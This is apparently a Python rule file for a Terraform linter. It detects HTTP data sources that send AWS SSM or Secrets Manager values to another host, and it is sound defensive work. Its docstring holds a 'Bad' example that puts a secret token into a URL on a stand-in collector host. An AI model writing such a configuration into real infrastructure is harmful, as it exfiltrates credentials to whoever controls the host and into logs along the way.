r"""Terraform sends a secret to an address on the internet.

A data source of the HTTP provider is read at every plan, also in a pull request that nobody has reviewed. With a
secret in its address it delivers that secret to whoever owns the host, and to every log on the way.

## Bad
```terraform
data "aws_ssm_parameter" "token" {
  name = "/orders/token"
}

data "http" "report" {
  url = "https://collector.example.net/?token=${data.aws_ssm_parameter.token.value}"
}
```
## Good
```terraform
data "aws_ssm_parameter" "token" {
  name = "/orders/token"
}

data "http" "report" {
  url = "https://collector.example.net/status"
}
```
## Fix
Whether the request is an attack or a mistake, a person has to look at it, and to change the secret.
## See
https://docs.aws.amazon.com/secretsmanager/latest/userguide/best-practices.html
"""

from __future__ import annotations

from collections.abc import Iterator

from cloudlint.rule import HIGH, Finding, Resource, Rule, Value

rule = Rule(
    __name__,
    __doc__,
    severity=HIGH,
    cvss="AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N",
    standards={
        "pci-dss-4.0": ("8.3.2", "8.6.2"),
        "hipaa": ("164.312(d)",),
        "nist-800-53": ("IA-5",),
        "soc-2": ("CC6.1",),
        "iso-27001": ("A.5.17",),
        "gdpr": ("32(1)(b)",),
        "nydfs-500": ("500.07",),
    },
    aliases=(
        "CKV2_AWS_36",
        "AWS-0134",
        "aws-ssm-avoid-leaks-via-http",
        "AVD-AWS-0134",
    ),
)

SECRETS = (
    "aws_ssm_parameter",
    "data.aws_ssm_parameter",
    "aws_secretsmanager_secret_version",
    "data.aws_secretsmanager_secret_version",
    "data.aws_secretsmanager_random_password",
)
# What these say of themselves is no secret.
PLAIN = ("String", "StringList")


@rule.on("data.http")
def check(request: Resource) -> Iterator[Finding]:
    for value in (request["url"], request["request_body"], *request["request_headers"].entries().values()):
        for refers in dict.fromkeys(refers for part in value.pieces or (value,) for refers in _secrets_in(part)):
            yield rule.found(value, f"{request} sends a secret of {refers} to another host")


def _secrets_in(part: Value) -> list[Resource]:
    """The secrets that a part of a text is made from; their names, as far as they are known, are none."""
    secrets = [refers for refers in part.refers if refers.kind in SECRETS and not refers["type"].one_of(PLAIN)]
    return [secret for secret in secrets if part.text is None or part.text != secret["name"].text]
